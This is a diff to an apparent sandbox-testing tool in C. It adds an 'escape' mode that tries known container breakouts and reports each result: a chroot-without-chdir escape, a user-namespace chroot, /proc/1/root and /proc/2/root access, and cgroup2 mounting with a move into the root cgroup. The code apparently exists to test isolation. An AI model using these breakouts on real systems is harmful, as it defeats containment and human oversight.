@@ -25,6 +25,18 @@
  *                        MARK gets fd, ptrace and signal (or those MODES, e.g.
  *                        "fd,ptrace"); each attempt's result is appended to LOG
  *                        ("ptrace PID: Operation not permitted")
+ *   forge escape DIR     try to leave the VM command's root and cgroup, one
+ *                        line per way ("NAME ok ..." when it worked, "NAME
+ *                        refused: ERROR" when not): chroot(DIR/sub) without a
+ *                        chdir, chdir("..") 64 times, chroot(".") (chroot);
+ *                        the same inside a new user namespace (userns);
+ *                        /proc/1/root and /proc/2/root (a kernel thread's:
+ *                        the initramfs root); a cgroup2 mount of its own
+ *                        (mount); then, wherever it got, list /rw/upper
+ *                        (upper) and write itself into /cgroup/cgroup.procs,
+ *                        the guest's root cgroup (cgroup). Last line: its
+ *                        cgroup now ("cgroup-now 0::/sandbox"). Exit 0 when
+ *                        it reached /rw/upper or moved cgroups.
  *
  * Exit status of the single modes: 0 when the attack worked.
  */
@@ -37,8 +49,11 @@
 #include <stdlib.h>
 #include <string.h>
 #include <stdint.h>
+#include <sched.h>
+#include <sys/mount.h>
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/user.h>
 #include <sys/wait.h>
@@ -223,7 +238,91 @@ static int nest(unsigned long flags, pid_t pid) {
     return kill(pid, 0) == 0 ? 0 : errno;
 }
 
+/* ---- escape ------------------------------------------------------------ */
+
+static int report(const char *name, int rc) {
+    if (rc == 0) printf("%s ok\n", name);
+    else printf("%s refused: %s\n", name, strerror(errno));
+    fflush(stdout);
+    return rc;
+}
+
+/* chroot(dir) without a chdir, then up to the top, then chroot(".") */
+static int break_out(const char *dir) {
+    if (chroot(dir) != 0) return -1;
+    for (int i = 0; i < 64; i++)
+        if (chdir("..") != 0) return -1;
+    return chroot(".");
+}
+
+/* list dir: 0 when it could be opened (its entries printed) */
+static int list(const char *name, const char *dir) {
+    DIR *d = opendir(dir);
+    if (!d) return report(name, -1);
+    printf("%s ok:", name);
+    struct dirent *e;
+    while ((e = readdir(d)) != NULL) printf(" %s", e->d_name);
+    printf("\n");
+    fflush(stdout);
+    closedir(d);
+    return 0;
+}
+
+static int move_cgroup(const char *procs) {
+    int fd = open(procs, O_WRONLY | O_CLOEXEC);
+    if (fd < 0) return report("cgroup", -1);
+    int rc = write(fd, "0", 1) == 1 ? 0 : -1;
+    int e = errno;
+    close(fd);
+    errno = e;
+    return report("cgroup", rc);
+}
+
+static int escape(const char *dir) {
+    char sub[4096], cg[4096];
+    snprintf(sub, sizeof sub, "%s/sub", dir);
+    snprintf(cg, sizeof cg, "%s/cg", dir);
+    mkdir(sub, 0755);
+    mkdir(cg, 0755);
+    int self = open("/proc/self/cgroup", O_RDONLY | O_CLOEXEC);
+    char before[256] = "", now[256] = "";
+    ssize_t n = self >= 0 ? pread(self, before, sizeof before - 1, 0) : -1;
+    if (n > 0) before[n] = 0;
+    int escaped = 0;
+    /* through /proc: the agent's root (PID 1) and a kernel thread's */
+    if (list("proc1-upper", "/proc/1/root/rw/upper") == 0) escaped = 1;
+    if (list("proc2-upper", "/proc/2/root/rw/upper") == 0) escaped = 1;
+    /* a cgroup2 mount of its own */
+    if (report("mount", mount("cgroup2", cg, "cgroup2", 0, NULL)) == 0) {
+        char procs[4200];
+        snprintf(procs, sizeof procs, "%s/cgroup.procs", cg);
+        if (move_cgroup(procs) == 0) escaped = 1;
+        umount(cg);
+    }
+    /* a user namespace gives back every capability inside it, CAP_SYS_CHROOT too */
+    pid_t pid = fork();
+    if (pid == 0) {
+        if (report("userns", unshare(CLONE_NEWUSER)) != 0) _exit(1);
+        if (report("userns-chroot", break_out(sub)) != 0) _exit(1);
+        _exit(list("userns-upper", "/rw/upper") == 0 ? 0 : 1);
+    }
+    int st;
+    if (pid > 0 && waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 0)
+        escaped = 1;
+    /* the chroot escape itself */
+    report("chroot", break_out(sub));
+    if (list("upper", "/rw/upper") == 0) escaped = 1;
+    if (move_cgroup("/cgroup/cgroup.procs") == 0) escaped = 1;
+    n = self >= 0 ? pread(self, now, sizeof now - 1, 0) : -1;
+    if (n > 0) now[n] = 0;
+    if (strcmp(before, now) != 0) escaped = 1;
+    printf("cgroup-now %s", now[0] ? now : "?\n");
+    return escaped ? 0 : 1;
+}
+
 int main(int argc, char **argv) {
+    if (argc == 3 && strcmp(argv[1], "escape") == 0)
+        return escape(argv[2]);
     if (argc == 4 && strcmp(argv[1], "nest") == 0) {
         int e = nest(strtoul(argv[2], NULL, 0), atoi(argv[3]));
         printf("nest %s: %s\n", argv[2], e ? strerror(e) : "allowed");
